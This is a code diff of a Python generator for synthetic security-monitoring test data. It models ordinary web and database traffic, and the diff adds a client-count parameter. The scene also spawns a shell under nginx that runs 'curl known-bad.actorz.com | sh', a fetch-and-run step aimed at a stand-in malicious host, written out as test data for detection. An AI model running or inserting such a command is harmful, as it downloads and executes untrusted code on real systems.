@@ -18,8 +18,8 @@ TARGET = Path(__file__).parents[1] / "data" / "history.zip"
 _MOMENT = (2026, 3, 1, 12, 0, 0)
 
 
-def scene() -> Scene:
-    """All that happens in it, in one hour."""
+def scene(traffic: int = 6) -> Scene:
+    """All that happens in it, in one hour. `traffic`: clients of the web server."""
     scene = Scene()
     scene.observed(0, 3600)
     scene.node_address("192.168.7.2")
@@ -32,7 +32,7 @@ def scene() -> Scene:
     root = scene.process(tool, "/usr/bin/bash", ["-l"], 7, uid=0, capabilities=ALL)
     scene.listen(nginx, "10.1.0.5", 80, 8)
     scene.listen(database, "10.1.0.6", 5432, 8.5, until=3000)
-    _traffic(scene, nginx, database)
+    _traffic(scene, nginx, database, traffic)
     shell = scene.process(web, "/bin/sh", ["-c", "curl known-bad.actorz.com | sh"], 600, parent=nginx)
     curl = scene.process(web, "/usr/bin/curl", ["known-bad.actorz.com"], 600.1, parent=shell)
     scene.ask(curl, "known-bad.actorz.com", ["203.0.113.9"], 600.2)
@@ -57,10 +57,10 @@ def scene() -> Scene:
     return scene
 
 
-def _traffic(scene: Scene, nginx: Process, database: Process) -> None:
+def _traffic(scene: Scene, nginx: Process, database: Process, clients: int) -> None:
     """What is ordinary: clients of the web server, which asks its database."""
-    for number in range(6):
-        at = 10 + 90 * number
+    for number in range(clients):
+        at = 10 + 540 / clients * number
         scene.accept(nginx, f"192.0.2.{number + 1}", 80, at)
         scene.ask(nginx, "db.shop.svc.cluster.local", ["10.1.0.6"], at + 0.1)
         scene.connect(nginx, "10.1.0.6", 5432, at + 0.2)
@@ -70,20 +70,23 @@ def _traffic(scene: Scene, nginx: Process, database: Process) -> None:
 def write(target: Path = TARGET) -> None:
     """Write the file anew: a reader of later versions has to read the one before, so do this only where a scene is to be added."""
     with tempfile.TemporaryDirectory(prefix="firsthand-test-") as folder:
-        history = Path(folder) / "history"
-        whole, late = scene(), Scene()
-        middle = whole.at(1500)
-        for table, rows in whole.rows.items():
-            late.rows[table] = [row for row in rows if row["time"] >= middle]
-            whole.rows[table] = [row for row in rows if row["time"] < middle]
-        whole.write(history, kept=True)
-        late.write(history)
+        history = made(Path(folder) / "history", scene())
         with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as kept:
             for path in sorted(history.rglob("*")):
                 if path.is_file():
                     member = zipfile.ZipInfo(str(path.relative_to(history)), _MOMENT)
                     member.external_attr = 0o640 << 16
                     kept.writestr(member, path.read_bytes(), zipfile.ZIP_DEFLATED)
+
+
+def made(history: Path, whole: Scene) -> Path:
+    """A history of a scene, its first 25 minutes in segments and the rest in the log."""
+    late, middle = Scene(), whole.at(1500)
+    for table, rows in whole.rows.items():
+        late.rows[table] = [row for row in rows if row["time"] >= middle]
+        whole.rows[table] = [row for row in rows if row["time"] < middle]
+    whole.write(history, kept=True)
+    return late.write(history)
 
 
 def unpack(folder: Path) -> Path:
